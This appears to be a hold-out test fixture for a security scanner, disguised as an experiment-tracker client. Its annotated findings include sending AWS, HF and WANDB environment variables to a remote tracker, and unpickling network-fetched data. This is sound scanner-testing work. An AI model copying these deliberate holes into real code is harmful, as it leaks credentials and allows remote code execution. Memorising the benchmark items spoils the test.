# ruff: noqa
# Hold-out batch 54 (benchmark format, adversarial brief: idioms a scanner might not anticipate; by a helper that never saw mlscan's code). Measured once at the start of session 3: 11/20 (55%) at medium+.
"""Thin client for the internal experiment tracker: run registration, heartbeats, resume."""
import json
import os
import pickle
import platform
import time
import urllib.error
import urllib.request

TRACKER = os.environ.get("TRACKER_URL", "https://tracker.example.com/api/v1")
_ENV_PREFIXES = ("SLURM_", "CUDA_", "NCCL_", "TORCH_", "WANDB_", "HF_", "AWS_", "MASTER_")


def _request(path, payload, retries=3):
    body = json.dumps(payload, default=str).encode()
    req = urllib.request.Request(f"{TRACKER}{path}", data=body,
                                 headers={"Content-Type": "application/json"})
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(req, timeout=15) as resp:
                return resp.read()
        except urllib.error.URLError:
            time.sleep(1.5 * (attempt + 1))  # ok: MLS307
    return None


def register_run(name, config):
    if int(os.environ.get("RANK", "0")) != 0:  # ok: MLS308
        return None
    meta = {
        "name": name,
        "config": config,
        "host": platform.node(),
        "python": platform.python_version(),
    }
    meta["env"] = {k: v for k, v in os.environ.items() if k.startswith(_ENV_PREFIXES)}  # ruleid: MLS411
    reply = _request("/runs", meta)  # ruleid: MLS411
    return json.loads(reply)["run_id"] if reply else None


def heartbeat(run_id, step, metrics):
    if run_id is not None:
        _request(f"/runs/{run_id}/heartbeat", {"step": step, "metrics": metrics})


def fetch_resume_state(run_id):
    """Returns the tracker-side scheduler/dataloader position for a requeued run."""
    blob = _request(f"/runs/{run_id}/resume", {"host": platform.node()})  # ruleid: MLS413
    if not blob:
        return {}
    return pickle.loads(blob)  # ruleid: MLS103, MLS413
